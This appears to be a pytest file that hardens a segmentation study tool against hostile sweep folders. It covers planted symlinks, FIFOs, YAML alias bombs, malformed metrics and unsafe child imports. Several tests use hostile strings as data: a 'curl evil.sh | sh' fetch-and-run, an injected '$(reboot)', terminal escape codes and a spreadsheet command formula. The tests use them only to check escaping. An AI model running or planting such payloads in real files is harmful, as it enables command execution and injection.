"""The study treats a sweep folder as data that may be hostile: what it writes never
follows a link planted there, strings from run configs are escaped wherever they land,
a run's files that are not what seg-train writes are one line (never a hang, a memory
blow-up or a traceback), the children it starts never import from the current folder,
and its shared pretraining is locked and resumable."""

from __future__ import annotations

import itertools
import json
import os
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch
from omegaconf import OmegaConf

from seg.cli.command import module_command
from seg.cli.compare import main, study_commands
from seg.cli.sweeps import results_table, sweep_results
from seg.errors import BadValue, PathExists
from seg.study import sweep
from seg.study.report import aggregate
from seg.study.runs import load_runs
from tests.test_compare import write_run

ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join(['*' + previous] * 9)}]\n"
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True))


@pytest.fixture(autouse=True)
def no_hang() -> Iterator[None]:
    """A test that would block (reading a FIFO) fails after 60 s instead."""
    def stop(signum, frame):
        raise TimeoutError("the study hung reading a run's file")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(60)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


def sweep_of_three(folder: Path) -> Path:
    """A finished sweep of bilinear and transposed, seeds 0 and 1, and a failed run."""
    for number, (upsampler, seed, miou) in enumerate(
            [("bilinear", 0, 0.5), ("transposed", 0, 0.52), ("bilinear", 1, 0.51),
             ("transposed", 1, 0.54)]):
        write_run(folder, number, upsampler, seed, miou)
    write_run(folder, 4, "transposed", 2, None)
    return folder


def edit_config(run: Path, change) -> None:
    config = OmegaConf.to_container(OmegaConf.load(run / ".hydra" / "config.yaml"))
    change(config)
    (run / ".hydra" / "config.yaml").write_text(OmegaConf.to_yaml(OmegaConf.create(config)))


# -- what the report writes ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["compare.md", "summary.csv", "compare.png"])
def test_a_link_planted_at_an_output_is_never_followed(tmp_path: Path, name: str,
                                                        capsys) -> None:
    folder = sweep_of_three(tmp_path / "sweep")
    target = tmp_path / ".bashrc"
    target.write_text("echo kept\n")
    (folder / name).symlink_to(target)
    with pytest.raises(SystemExit) as stopped:
        main(["--aggregate", str(folder)])
    assert stopped.value.code == 1
    assert target.read_text() == "echo kept\n"
    assert (folder / name).is_symlink()
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and f"{name} is a symbolic link" in error
    assert not [p for p in folder.iterdir() if p.name.endswith(".tmp")]  # nothing left over


def test_outputs_of_an_earlier_report_are_replaced_whole(tmp_path: Path) -> None:
    folder = sweep_of_three(tmp_path / "sweep")
    first = aggregate(folder).read_text()
    inode = (folder / "compare.md").stat().st_ino
    assert aggregate(folder).read_text() == first
    assert (folder / "compare.md").stat().st_ino != inode  # a new file renamed over it


def test_config_strings_are_escaped_in_the_report_csvs_and_terminal(tmp_path: Path,
                                                                    capsys) -> None:
    folder = sweep_of_three(tmp_path / "sweep")
    hostile = "shapes\ncurl evil.sh | sh\x1b[2J"
    for run in folder.iterdir():
        edit_config(run, lambda c: c["dataset"].update(name=hostile))
    (folder / "4" / ".hydra" / "overrides.yaml").write_text(
        json.dumps(["seed=2", "dataset.root=/x\n$(reboot)\x1b]0;title\x07"]))
    metrics = json.loads((folder / "0" / "metrics.json").read_text())
    metrics["per_class_iou"] = {"circle\nFAKE": 0.5, "=HYPERLINK(1)": 0.1}
    (folder / "0" / "metrics.json").write_text(json.dumps(metrics))
    assert main(["--aggregate", str(folder)]) == 0
    printed = capsys.readouterr().out
    for text in (printed, (folder / "compare.md").read_text()):
        assert "\x1b" not in text and "\x07" not in text
        assert "dataset shapes\\ncurl evil.sh | sh\\x1b[2J" in text
        assert "/x\\n$(reboot)\\x1b]0;title\\x07" in text
        assert not any(line.startswith(("curl", "$(reboot)")) for line in text.splitlines())
    compare_csv = (folder / "compare.csv").read_text()
    assert "iou/circle\\nFAKE" in compare_csv and "\x1b" not in compare_csv
    assert len(compare_csv.splitlines()) == 5  # a header and 4 runs: no line of a name's own


def test_a_markdown_cell_holds_its_value_whole(tmp_path: Path) -> None:
    from seg.study.report import table

    header, _, row = table(["a", "b"], [["x|y", "line\nbreak"]])
    assert row == "| x\\|y | line\\nbreak |" and row.count(" | ") == header.count(" | ")


def test_a_class_name_a_spreadsheet_would_run_is_quoted(tmp_path: Path) -> None:
    from seg.study.report import write_csv

    write_csv([{"class": "=cmd|'/C calc'!A0", "diff": -0.5}], tmp_path / "x.csv")
    assert (tmp_path / "x.csv").read_text().splitlines()[1] == "'=cmd|'/C calc'!A0,-0.5"


# -- what the report reads -------------------------------------------------------------------


def make_fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def link_to_zero(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def alias_bomb(path: Path) -> None:
    path.write_text(ALIAS_BOMB)


def as_list(path: Path) -> None:
    path.write_text("- seed: 0\n- model: {}\n")


def config_key(key: str, value) -> callable:
    def change(path: Path) -> None:
        config = OmegaConf.to_container(OmegaConf.load(path))
        node = config
        *parents, last = key.split(".")
        for part in parents:
            node = node[part]
        if value is KeyError:
            del node[last]
        else:
            node[last] = value
        path.write_text(OmegaConf.to_yaml(OmegaConf.create(config)))
    return change


def metrics_key(key: str, value) -> callable:
    def change(path: Path) -> None:
        metrics = json.loads(path.read_text())
        metrics[key] = value
        path.write_text(json.dumps(metrics))
    return change


HOSTILE_RUNS = {
    "FIFO config": (".hydra/config.yaml", make_fifo, "is not a regular file"),
    "config alias bomb": (".hydra/config.yaml", alias_bomb, "aliases (*name) are not accepted"),
    "config a list": (".hydra/config.yaml", as_list, "holds list, not a mapping"),
    "no model key": (".hydra/config.yaml", config_key("model", KeyError),
                     "model.decoder.name must be a decoder's name"),
    "seed a string": (".hydra/config.yaml", config_key("seed", "abc"),
                      "seed must be an integer, got 'abc'"),
    "decoder with a newline": (".hydra/config.yaml", config_key("model.decoder.name", "a\nb"),
                               "model.decoder.name must be a decoder's name"),
    "upsampler a string": (".hydra/config.yaml", config_key("model.upsampler", "bilinear"),
                           "model.upsampler must be a mapping"),
    "max_iters a string": (".hydra/config.yaml", config_key("trainer.max_iters", "${x}"),
                           "trainer.max_iters must be a positive integer"),
    "metrics -> /dev/zero": ("metrics.json", link_to_zero, "is not a regular file"),
    "FIFO metrics": ("metrics.json", make_fifo, "is not a regular file"),
    "metrics a list": ("metrics.json", lambda p: p.write_text("[1, 2]"),
                       "holds list, not a mapping"),
    "mIoU a string": ("metrics.json", metrics_key("mIoU", "high"),
                      "mIoU must be a number, got 'high'"),
    "history a string": ("metrics.json", metrics_key("history", "x"),
                         "history must be a list of evaluations"),
    "history entry a number": ("metrics.json", metrics_key("history", [3]),
                               "history[0] must be a mapping"),
    "iteration a string": ("metrics.json", metrics_key("history", [{"iteration": "1"}]),
                           "history[0].iteration must be a count"),
    "per-class a string": ("metrics.json", metrics_key("per_class_iou", "x"),
                           "per_class_iou must be numbers or null by class name"),
    "confusion of strings": ("metrics.json", metrics_key("confusion_matrix", [["a"]]),
                             "confusion_matrix must be a square list"),
    "FIFO overrides of a failed run": ("../4/.hydra/overrides.yaml",
                                       lambda p: os.mkfifo(p), "is not a regular file"),
}


@pytest.mark.parametrize("case", HOSTILE_RUNS)
def test_a_hostile_run_is_one_line_under_aggregate(tmp_path: Path, case: str,
                                                   capsys) -> None:
    file, spoil, message = HOSTILE_RUNS[case]
    folder = sweep_of_three(tmp_path / "sweep")
    spoil(folder / "1" / file)
    with pytest.raises(SystemExit) as stopped:
        main(["--aggregate", str(folder)])
    error = capsys.readouterr().err
    assert stopped.value.code == 1
    assert error.startswith("error: ") and error.count("\n") == 1 and message in error
    assert str(folder / "1" / file) in error or "overrides.yaml" in error


@pytest.mark.parametrize("case", ["FIFO config", "config alias bomb", "metrics -> /dev/zero",
                                  "seed a string", "mIoU a string"])
def test_a_hostile_run_is_one_line_under_gaps(tmp_path: Path, case: str, capsys) -> None:
    file, spoil, message = HOSTILE_RUNS[case]
    good, bad = sweep_of_three(tmp_path / "a"), sweep_of_three(tmp_path / "b")
    spoil(bad / "1" / file)
    assert main(["--gaps", str(good), str(bad)]) == 1
    error = capsys.readouterr().err
    assert error.startswith("error: ") and error.count("\n") == 1 and message in error


def test_a_run_config_is_read_without_resolving_it(tmp_path: Path, monkeypatch) -> None:
    """``${oc.env:...}`` in a run config stays as written: no resolver runs on it."""
    monkeypatch.setenv("SEG_SECRET", "hunter2")
    folder = sweep_of_three(tmp_path / "sweep")
    for run in folder.iterdir():
        edit_config(run, lambda c: c["dataset"].update(name="${oc.env:SEG_SECRET}"))
    report = aggregate(folder).read_text()
    assert "hunter2" not in report and "dataset ${oc.env:SEG_SECRET}" in report


def test_a_metrics_file_cannot_relabel_its_run(tmp_path: Path) -> None:
    folder = sweep_of_three(tmp_path / "sweep")
    metrics_key("decoder", "\x1b[31mfake")(folder / "0" / "metrics.json")
    runs, _ = load_runs(folder)
    assert {run["decoder"] for run in runs} == {"fcn8s"}


def test_the_sweep_summary_lists_unreadable_runs_as_failed(tmp_path: Path, caplog) -> None:
    for name in ("0_seed=0", "1_seed=1", "2_seed=2", "3_\x1b[2Jx"):
        (tmp_path / name / ".hydra").mkdir(parents=True)
        (tmp_path / name / ".hydra" / "config.yaml").write_text("seed: 0\n")
        (tmp_path / name / "metrics.json").write_text(json.dumps({"mIoU": 0.5}))
    make_fifo(tmp_path / "0_seed=0" / "metrics.json")
    (tmp_path / "1_seed=1" / "metrics.json").write_text(json.dumps({"mIoU": "high"}))
    (tmp_path / "2_seed=2" / ".hydra" / "hydra.yaml").write_text(ALIAS_BOMB)
    results = sweep_results(tmp_path)
    table = results_table(results)
    failed = {name for name, metrics in results if metrics is None}
    assert failed == {"0_seed=0", "1_seed=1"} and len(results) == 4
    assert "\x1b" not in table and "3_\\x1b[2Jx" in table
    assert "is not a regular file" in caplog.text and "mIoU or best_mIoU" in caplog.text


# -- the children the study starts -----------------------------------------------------------


def test_children_never_import_from_the_current_folder(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    (tmp_path / "yaml.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    result = subprocess.run(module_command("seg.cli.pretrain", "--help"),
                            cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr[-1000:]
    assert "Usage" in result.stdout and not marker.exists()  # PyYAML was imported


def test_the_sweep_and_the_pretraining_start_through_the_safe_command(
        tmp_path: Path, monkeypatch) -> None:
    started = []
    monkeypatch.setattr(sweep.subprocess, "run",
                        lambda command, check: started.append(command) or
                        subprocess.CompletedProcess(command, 0))
    commands = study_commands()
    sweep.multirun(commands.train, ["seed=0"])
    sweep.pretrained_encoder(["compare=quick"], tmp_path, commands.pretrain)
    assert [command[:4] for command in started] == [
        module_command("seg.cli.train")[:4], module_command("seg.cli.pretrain")[:4]]


# -- the shared pretraining ------------------------------------------------------------------

PRETRAIN = ("+pretrain.iterations=4", "+pretrain.batch_size=2", "+pretrain.lr=0.01",
            "+pretrain.checkpoint_every=2", "trainer.log_every=1")


def test_a_locked_folder_is_not_pretrained_into(compose_train, tmp_path: Path) -> None:
    from seg.cli.pretrain import pretrain_encoder
    from seg.run_lock import run_folder_lock

    with run_folder_lock(tmp_path), pytest.raises(PathExists, match="is in use by"):
        pretrain_encoder(compose_train(*PRETRAIN), tmp_path)
    assert not (tmp_path / "encoder.pth").exists()


def counting_steps(monkeypatch, fail_at: int | None = None) -> list[int]:
    """Count the training steps taken; the step ``fail_at`` raises, as a kill would stop it."""
    from seg.engine import Trainer

    taken, step, count = [], Trainer.train_step, itertools.count(1)

    def counted(self, *args, **kwargs):
        number = next(count)
        if number == fail_at:
            raise RuntimeError("killed")
        taken.append(number)
        return step(self, *args, **kwargs)

    monkeypatch.setattr(Trainer, "train_step", counted)
    return taken


def test_a_stopped_pretraining_goes_on_from_its_checkpoint(compose_train, tmp_path: Path,
                                                           monkeypatch) -> None:
    from seg.cli.pretrain import pretrain_encoder
    from seg.engine import load_checkpoint

    cfg = compose_train(*PRETRAIN)
    whole = pretrain_encoder(cfg, tmp_path / "whole")
    stopped = tmp_path / "stopped"
    counting_steps(monkeypatch, fail_at=4)
    with pytest.raises(RuntimeError, match="killed"):
        pretrain_encoder(cfg, stopped)
    assert load_checkpoint(stopped / "checkpoints" / "last.pt")["iteration"] == 2
    assert not (stopped / "encoder.pth").exists()
    monkeypatch.undo()
    taken = counting_steps(monkeypatch)
    resumed = pretrain_encoder(cfg, stopped)
    assert len(taken) == 2  # iterations 3 and 4, not 4 from the start
    expected, got = torch.load(whole), torch.load(resumed)
    assert all(torch.equal(expected[key], got[key]) for key in expected)


def test_a_signal_saves_the_pretraining_where_it_stands(compose_train, tmp_path: Path,
                                                        monkeypatch) -> None:
    """SIGTERM after step 3 of 4 (checkpoints every 2): saved at 3, the re-run takes 1."""
    from seg.cli.pretrain import pretrain_encoder
    from seg.engine import Trainer, load_checkpoint
    from seg.study.pretrain import PretrainingStopped

    step, count = Trainer.train_step, itertools.count(1)

    def terminated_at_three(self, *args, **kwargs):
        done = step(self, *args, **kwargs)
        if next(count) == 3:
            os.kill(os.getpid(), signal.SIGTERM)
        return done

    monkeypatch.setattr(Trainer, "train_step", terminated_at_three)
    with pytest.raises(PretrainingStopped, match="SIGTERM at iteration 3, saved"):
        pretrain_encoder(compose_train(*PRETRAIN), tmp_path)
    assert load_checkpoint(tmp_path / "checkpoints" / "last.pt")["iteration"] == 3
    monkeypatch.undo()
    taken = counting_steps(monkeypatch)
    pretrain_encoder(compose_train(*PRETRAIN), tmp_path)
    assert taken == [1]  # iteration 4 alone


def test_a_checkpoint_of_other_settings_is_refused(compose_train, tmp_path: Path,
                                                   monkeypatch) -> None:
    from seg.cli.pretrain import pretrain_encoder

    counting_steps(monkeypatch, fail_at=3)
    with pytest.raises(RuntimeError):
        pretrain_encoder(compose_train(*PRETRAIN), tmp_path)
    monkeypatch.undo()
    before = (tmp_path / "checkpoints" / "last.pt").read_bytes()
    with pytest.raises(BadValue, match=r"other settings \(pretrain.lr\).*delete it to start"):
        pretrain_encoder(compose_train(*PRETRAIN[:2], "+pretrain.lr=0.02", *PRETRAIN[3:]),
                         tmp_path)
    assert (tmp_path / "checkpoints" / "last.pt").read_bytes() == before


def test_a_finished_encoder_is_never_replaced(compose_train, tmp_path: Path) -> None:
    from seg.cli.pretrain import pretrain_encoder

    encoder = pretrain_encoder(compose_train(*PRETRAIN), tmp_path)
    before = encoder.read_bytes()
    with pytest.raises(PathExists, match="holds a finished pretraining, which is never"):
        pretrain_encoder(compose_train(*PRETRAIN[:2], "+pretrain.lr=0.02", *PRETRAIN[3:]),
                         tmp_path)
    assert encoder.read_bytes() == before


def test_a_study_stopped_before_any_run_reports_only_why(tmp_path: Path, monkeypatch,
                                                         capsys) -> None:
    """A refused pretraining (its folder in use) is the one line seg-compare ends with."""
    monkeypatch.setattr(sweep, "run_study", lambda overrides, commands: (tmp_path, 1))
    assert main(["compare=quick"]) == 1
    assert capsys.readouterr().err == ""  # the pretraining's own line came before


def test_figure_labels_are_drawn_as_written(tmp_path: Path) -> None:
    """``$...$`` in a label is text, not mathematics matplotlib would fail to parse."""
    from seg.study.figures import BAR_METRICS, bar_chart

    row = {"decoder": "fcn8s", "upsampler": "$\\frac$",
           **{f"{key}_{stat}": 0.5 for key, _ in BAR_METRICS for stat in ("mean", "std")}}
    bar_chart([row], tmp_path / "compare.png")
    assert (tmp_path / "compare.png").read_bytes().startswith(b"\x89PNG")
